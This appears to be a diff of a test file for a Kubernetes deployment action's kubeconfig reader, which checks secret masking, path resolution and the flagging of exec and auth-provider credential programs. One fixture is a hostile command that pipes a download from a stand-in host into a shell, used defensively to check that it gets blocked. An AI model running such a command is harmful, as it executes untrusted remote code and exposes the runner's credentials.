@@ -4,6 +4,7 @@ import { parseEnvLines } from '../../src/inputs/env-lines.js';
 import { parseImageRepository, parseImageTag } from '../../src/inputs/image.js';
 import { formatKeyPath, parseKeyPath } from '../../src/inputs/key-path.js';
 import { readKubeconfig } from '../../src/inputs/kubeconfig.js';
+import { kubeconfigYaml, STRICT } from '../kubeconfig/fixture.js';
 import { parseNamespace, parseReleaseName } from '../../src/inputs/names.js';
 import {
   parseBoolean,
@@ -192,45 +193,67 @@ describe('chart source', () => {
 });
 
 describe('kubeconfig input', () => {
-  const kubeconfig = 'apiVersion: v1\nclusters: []\nusers:\n  - name: u\n    user:\n      token: tok-123\n';
-  it('takes content or a path and lists its credentials for masking', () => {
-    expect(readKubeconfig(kubeconfig, () => '')).toEqual({
-      content: kubeconfig,
-      secrets: [kubeconfig, 'tok-123'],
-      credentialPrograms: [],
+  const kubeconfig = kubeconfigYaml('token: tok-123');
+  it('takes content or a path, normalises it and lists its credentials for masking', () => {
+    const read = readKubeconfig(kubeconfig, () => '', STRICT);
+    expect(read.problems).toEqual([]);
+    expect(read.secrets).toEqual([kubeconfig, 'tok-123']);
+    expect(JSON.parse(read.content)).toMatchObject({
+      'current-context': 'ci',
+      users: [{ name: 'ci', user: { token: 'tok-123' } }],
     });
-    expect(readKubeconfig('/runner/kube', () => kubeconfig).content).toBe(kubeconfig);
+    expect(readKubeconfig('/runner/kube', () => kubeconfig, STRICT).content).toBe(read.content);
     expect(() =>
-      readKubeconfig('/missing', () => {
-        throw new Error('ENOENT');
-      }),
+      readKubeconfig(
+        '/missing',
+        () => {
+          throw new Error('ENOENT');
+        },
+        STRICT,
+      ),
     ).toThrow(/nor the path of a file the action may read/);
-    expect(readKubeconfig('/file', () => 'just text').problem).toMatch(/not a kubeconfig/);
+    expect(readKubeconfig('/file', () => 'just text', STRICT).problems).toEqual([
+      'is not a kubeconfig (YAML with clusters, contexts and users).',
+    ]);
+  });
+
+  it('resolves relative file paths against the folder of the file it read, or the working directory', () => {
+    const withFiles = kubeconfigYaml('{tokenFile: token, client-certificate: ../certs/ci.crt, client-key: /k/ci.key}');
+    const allowed = { ...STRICT, allowLocalFiles: true };
+    const user = (content: string) =>
+      (JSON.parse(content) as { users: { user: Record<string, string> }[] }).users[0].user;
+    expect(user(readKubeconfig('conf/kubeconfig', () => withFiles, allowed, '/work').content)).toEqual({
+      tokenFile: '/work/conf/token',
+      'client-certificate': '/work/certs/ci.crt',
+      'client-key': '/k/ci.key',
+    });
+    expect(user(readKubeconfig(withFiles, () => '', allowed, '/work').content).tokenFile).toBe('/work/token');
   });
 
   it('names every program an exec or auth-provider user would run, without the values of secret flags', () => {
-    const programs = [
-      'apiVersion: v1',
-      'clusters: []',
-      'users:',
-      '  - name: ci',
-      '    user:',
-      '      exec: {command: /bin/sh, args: [-c, "curl -s http://x | sh"]}',
-      '  - name: aad',
-      '    user:',
-      '      exec: {command: kubelogin, args: [get-token, --client-secret, s3cr3t, --token=t0k3n, --server-id, abc]}',
-      '  - name: gke',
-      '    user:',
-      "      auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud, cmd-args: 'config config-helper --token=gke-tok-9'}}",
-    ].join('\n');
-    expect(readKubeconfig(programs, () => '').secrets).toEqual(
-      expect.arrayContaining(['s3cr3t', 't0k3n', 'gke-tok-9']),
-    );
-    expect(readKubeconfig(programs, () => '').credentialPrograms).toEqual([
-      'user "ci" runs `/bin/sh -c curl -s http://x | sh` (exec)',
-      'user "aad" runs `kubelogin get-token --client-secret *** --token=*** --server-id abc` (exec)',
-      'user "gke" uses the auth-provider `gcp` and runs `/usr/bin/gcloud config config-helper --token=***`',
-    ]);
+    const cases = [
+      [
+        'exec: {command: /bin/sh, args: [-c, "curl -s http://x | sh"]}',
+        'user "ci" runs `/bin/sh -c curl -s http://x | sh` (exec)',
+      ],
+      [
+        'exec: {command: kubelogin, args: [get-token, --client-secret, s3cr3t, --token=t0k3n, --server-id, abc]}',
+        'user "ci" runs `kubelogin get-token --client-secret *** --token=*** --server-id abc` (exec)',
+      ],
+      [
+        "auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud, cmd-args: 'config config-helper --token=gke-tok-9'}}",
+        'user "ci" uses the auth-provider `gcp` and runs `/usr/bin/gcloud config config-helper --token=***`',
+      ],
+    ];
+    const secrets = cases.flatMap(([user]) => readKubeconfig(kubeconfigYaml(user), () => '', STRICT).secrets);
+    expect(secrets).toEqual(expect.arrayContaining(['s3cr3t', 't0k3n', 'gke-tok-9']));
+    for (const [user, program] of cases) {
+      const [problem] = readKubeconfig(kubeconfigYaml(user), () => '', STRICT).problems;
+      expect(problem.startsWith(`${program} to get its credentials`)).toBe(true);
+      expect(
+        readKubeconfig(kubeconfigYaml(user), () => '', { ...STRICT, allowCredentialPrograms: true }).problems,
+      ).toEqual([]);
+    }
   });
 });
 
